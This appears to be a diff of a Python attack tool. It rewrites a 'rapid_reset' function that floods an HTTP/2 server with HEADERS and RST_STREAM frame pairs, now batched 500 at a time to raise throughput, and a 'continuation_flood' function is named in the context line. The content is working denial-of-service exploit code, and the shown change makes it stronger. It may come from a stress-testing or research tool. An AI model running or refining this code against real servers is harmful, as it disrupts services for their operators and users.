@@ -201,11 +201,11 @@ def send_all(connection, data):
 
 def rapid_reset(address, count):
     """Opens streams and resets each at once."""
+    pairs = [frame(HEADERS, END_HEADERS, stream, request_headers()) +
+             frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+             for stream in range(1, 2 * count, 2)]
     with Connection(address) as connection:
-        return send_all(connection, (
-            frame(HEADERS, END_HEADERS, stream, request_headers()) +
-            frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
-            for stream in range(1, 2 * count, 2)))
+        return send_all(connection, (b"".join(pairs[i:i + 500]) for i in range(0, count, 500)))
 
 
 def continuation_flood(address, mebibytes):
